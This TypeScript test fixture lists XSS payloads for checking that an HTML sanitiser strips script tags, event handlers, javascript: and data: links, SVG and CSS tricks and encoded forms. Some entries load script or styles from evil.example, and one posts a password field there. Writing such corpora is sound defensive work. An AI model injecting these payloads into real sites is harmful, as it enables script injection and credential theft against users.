/**
 * Hostile strings for the sanitiser's tests (and any service's or browser test that wants them): script
 * tags, event handlers, javascript:/vbscript:/data: links, SVG and MathML tricks, CSS expression(), broken
 * and nested markup, entity-encoded payloads. `formatting` marks entries whose allowed formatting must survive.
 */
export interface HostileCase {
  input: string;
  /** Allowed formatting that must still be in the HTML-mode output. */
  keeps?: string[];
}

export const HOSTILE_CORPUS: readonly HostileCase[] = [
  // script tags
  { input: '<script>alert(1)</script>' },
  { input: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { input: '<script type="text/javascript">document.cookie</script><b>kept</b>', keeps: ['<b>kept</b>'] },
  { input: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { input: '<<script>script>alert(1)<</script>/script>' },
  { input: '<script>alert(1)' },
  { input: '<script/xss src=https://evil.example/x.js></script>' },
  { input: '<script\n>alert(1)</script\n>' },
  { input: '"><script>alert(document.domain)</script>' },
  { input: "'';!--\"<XSS>=&{()}" },
  // event handlers
  { input: '<img src=x onerror=alert(1)>' },
  { input: '<b onclick="alert(1)">bold</b>', keeps: ['<b>bold</b>'] },
  { input: '<p onmouseover=alert(1)>para</p>', keeps: ['<p>para</p>'] },
  { input: '<body onload=alert(1)>' },
  { input: '<div onpointerenter="alert(1)">x</div>' },
  { input: '<strong ONFOCUS=alert(1) tabindex=1 autofocus>s</strong>', keeps: ['<strong>s</strong>'] },
  { input: '<i/onclick=alert(1)>i</i>', keeps: ['<i>i</i>'] },
  { input: '<details open ontoggle=alert(1)>' },
  { input: '<video><source onerror="alert(1)"></video>' },
  { input: '<marquee onstart=alert(1)>m</marquee>' },
  // javascript:, vbscript:, data: links
  { input: '<a href="javascript:alert(1)">click</a>' },
  { input: '<a href="JaVaScRiPt:alert(1)">click</a>' },
  { input: '<a href=" javascript:alert(1)">click</a>' },
  { input: '<a href="java\tscript:alert(1)">click</a>' },
  { input: '<a href="jav&#x09;ascript:alert(1)">click</a>' },
  { input: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>' },
  { input: '<a href="javascript&colon;alert(1)">click</a>' },
  { input: '<a href="vbscript:msgbox(1)">click</a>' },
  { input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>' },
  { input: '<a href="data:text/html,<script>alert(1)</script>">click</a>' },
  { input: '<a href="https://mer.example" onclick="alert(1)">ok link</a>', keeps: ['ok link'] },
  { input: 'javascript:alert(document.cookie)' },
  { input: 'javajavascript:script:alert(1)' },
  { input: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { input: '<button formaction="javascript:alert(1)">x</button>' },
  // SVG and MathML tricks
  { input: '<svg onload=alert(1)>' },
  { input: '<svg><script>alert(1)</script></svg>' },
  { input: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>' },
  { input: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { input: '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>' },
  { input: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>' },
  { input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { input: '<math href="javascript:alert(1)">x</math>' },
  // iframes, objects, forms
  { input: '<iframe src="https://evil.example"></iframe>' },
  { input: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { input: '<object data="javascript:alert(1)"></object>' },
  { input: '<embed src="https://evil.example/x.swf">' },
  { input: '<form method="post" action="https://evil.example"><input type="password" name="p"></form>' },
  { input: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  // CSS expression() and behaviour
  { input: '<p style="width: expression(alert(1))">css</p>', keeps: ['<p>css</p>'] },
  { input: '<div style="background:url(javascript:alert(1))">x</div>' },
  { input: '<p style="behavior: url(xss.htc)">b</p>', keeps: ['<p>b</p>'] },
  { input: '<style>body { -moz-binding: url("https://evil.example/x.xml#xss") }</style>' },
  { input: '<style>@import "https://evil.example/x.css";</style><em>e</em>', keeps: ['<em>e</em>'] },
  { input: '<p style="x:exp/**/ression(alert(1))">c</p>' },
  { input: 'width: expression(alert(1))' },
  // broken and nested markup
  { input: '<b><i>unclosed' },
  { input: '<p><b>nested <i>deep <em>deeper</em></i></b></p>', keeps: ['<em>deeper</em>'] },
  { input: '<img src="x" alt="<script>alert(1)</script>">' },
  { input: '<!--<img src=x onerror=alert(1)>-->' },
  { input: '<![CDATA[<script>alert(1)</script>]]>' },
  { input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { input: '<textarea></textarea><script>alert(1)</script>' },
  { input: '<xmp><script>alert(1)</script></xmp>' },
  { input: '<title><script>alert(1)</script></title>' },
  { input: '<a href="https://mer.example"<script>alert(1)</script>>x</a>' },
  { input: '<<b>>bold<</b>>' },
  { input: '<img """><script>alert(1)</script>">' },
  { input: '<base href="javascript:alert(1)//">' },
  { input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { input: '<link rel="stylesheet" href="javascript:alert(1)">' },
  { input: '<template><script>alert(1)</script></template>' },
  // encoded entities
  { input: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { input: '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;' },
  { input: '&#60;script&#62;alert(1)&#60;/script&#62;' },
  { input: '&#x3C;img src=x onerror=alert(1)&#x3E;' },
  { input: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' },
  { input: '%3Cscript%3Ealert(1)%3C/script%3E' },
  {
    input:
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  { input: 'a\u0000<script>alert(1)</script>b' },
];
